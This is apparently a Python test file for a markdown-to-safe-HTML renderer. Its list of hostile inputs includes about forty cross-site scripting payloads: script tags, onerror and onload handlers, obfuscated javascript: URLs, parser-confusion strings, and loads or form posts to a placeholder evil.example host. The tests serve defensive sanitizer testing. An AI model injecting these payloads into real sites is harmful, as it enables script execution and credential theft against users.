"""CommonMark to safe HTML."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wikilearn.core import markdown
from wikilearn.core.markdown import ATTRIBUTES, SCHEMES, TAGS, render, unsafe_html, visible_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id=x>y</a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,x">',
    '<p style="background:url(https://evil.example)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel=stylesheet href="https://evil.example">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    '<p id="main" class="site-header" name="x">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><script>alert(1)</script></title>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="https://x.example" onclick="alert(1)" ping="https://evil.example" target=_top>x</a>',
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/p.png" autoplay></video>',
    '<td background="https://evil.example/x.png">x</td>',
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "`<script>`<script>alert(1)</script>",
    '"><script>alert(1)</script>',
]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html):
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_safe(html):
    for tag, attributes in elements(html):
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel"}
        if "href" in attributes:
            assert attributes["href"].split(":")[0].lower() in SCHEMES


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markup_becomes_harmless(source):
    html = render(source)
    assert_safe(html)
    assert "evil.example/x.png" not in str([a for _tag, a in elements(html) if _tag != "a"])


@given(st.lists(st.sampled_from([*HOSTILE, "word", "**", "\n\n", "<", ">", '"', "`", "[", "](", ")"]), max_size=12))
def test_no_mixture_of_hostile_markup_gets_through(pieces):
    assert_safe(render("".join(pieces)))


@pytest.mark.parametrize(
    ("source", "levels"),
    [
        ("# One\n\n## Two", ["h2", "h3"]),
        ("## One\n\n## Two", ["h2", "h2"]),
        ("## One\n\n##### Two\n\n## Three", ["h2", "h3", "h2"]),
        ("#### One\n\n<h6>Two</h6>", ["h2", "h3"]),
        ("No heading", []),
    ],
)
def test_headings_begin_right_below_the_page_and_leave_no_level_out(source, levels):
    assert re.findall(r"<(h\d)>", render(source, highest=2)) == levels


@given(st.text(max_size=200))
def test_any_text_renders_safely(text):
    assert_safe(render(text))


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("# One\n\n## Two", "<h3>One</h3>\n<h4>Two</h4>"),
        ("###### Six", "<h6>Six</h6>"),
        ("a **b** *c* `d`", "<p>a <strong>b</strong> <em>c</em> <code>d</code></p>"),
        ("[x](https://example.org)", '<p><a href="https://example.org" rel="noopener noreferrer">x</a></p>'),
        ("[x](/elsewhere)", "<p>x</p>"),
        ("[x](//example.org/y)", '<p><a href="https://example.org/y" rel="noopener noreferrer">x</a></p>'),
        (
            "![A shelf](https://example.org/a.png)",
            '<p><a href="https://example.org/a.png" rel="noopener noreferrer">Image: A shelf</a></p>',
        ),
        (
            '<img src="https://example.org/a.png">',
            '<a href="https://example.org/a.png" rel="noopener noreferrer">Image</a>',
        ),
        (
            '<iframe src="https://www.youtube-nocookie.com/embed/abc_-1"></iframe>',
            '<a href="https://www.youtube.com/watch?v=abc_-1" rel="noopener noreferrer">Watch on www.youtube.com</a>',
        ),
        ("Write <your name> here", "<p>Write &lt;your name&gt; here</p>"),
        (
            "| a |\n| - |\n| b |",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>",
        ),
    ],
)
def test_markdown_becomes(source, html):
    assert render(source) == html


def test_image_in_a_link_does_not_nest_links():
    html = render('<a href="https://example.org"><img src="https://example.org/a.png" alt="Shelf"></a>')
    assert [tag for tag, _attributes in elements(html)].count("a") == 1
    assert "Image: Shelf" in html


def test_links_within_the_site_are_resolved():
    assert 'href="https://example.org/b"' in render(
        "[x](lesson:b)", resolve=lambda address: f"https://example.org/{address[-1]}"
    )
    assert render("[x](lesson:b)", resolve=lambda address: None) == "<p>x</p>"
    assert render("[x](javascript:b)", resolve=lambda address: None) == "<p>[x](javascript:b)</p>"


@pytest.mark.parametrize(
    "source",
    [
        '<div class="note"><p>Mind <b>this</b></div>',
        "<figure>\n<img src=x>\n<figcaption>A caption</figcaption>\n</figure>\n\nand more",
        "<center>Old <font color=red>markup</font></center>",
        "<details><summary>More</summary>hidden words</details>",
        "<unclosed>tag and <b>bold",
        "<div>" * 300 + "deep" + "</div>" * 300,
    ],
)
def test_no_visible_word_is_lost(source):
    before = re.findall(r"\w+", visible_text(unsafe_html(source)))
    after = re.findall(r"\w+", visible_text(render(source)))
    for word in before:
        assert word in after


@given(
    st.lists(
        st.sampled_from(
            ["alpha", "beta", "*", "**", "<b>", "</b>", "<div>", "</div>", "\n\n", "- ", "> ", "<i", "&amp;"]
        ),
        max_size=30,
    )
)
def test_no_mixture_of_markup_loses_a_word(pieces):
    source = " ".join(pieces)
    before = re.findall("alpha|beta", visible_text(unsafe_html(source)))
    after = re.findall("alpha|beta", visible_text(render(source)))
    assert len(after) >= len(before)


def test_visible_text_leaves_out_scripts_and_keeps_words_apart():
    assert visible_text("<p>one</p><p>t<b>w</b>o</p><script>three</script>") == "one two"


def test_a_paragraph_of_a_megabyte_is_rendered():
    assert len(render("word " * 200_000)) > 999_000


@given(st.text(alphabet="aZé9م的 ,.;:?!%()/'’“”…–—-_*<&\"[#", min_size=1, max_size=12))
def test_a_plain_line_is_what_all_three_steps_would_make_of_it(text):
    short = render(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(markdown, "_PLAIN", re.compile(r"(?!)"))
        assert render(text) == short
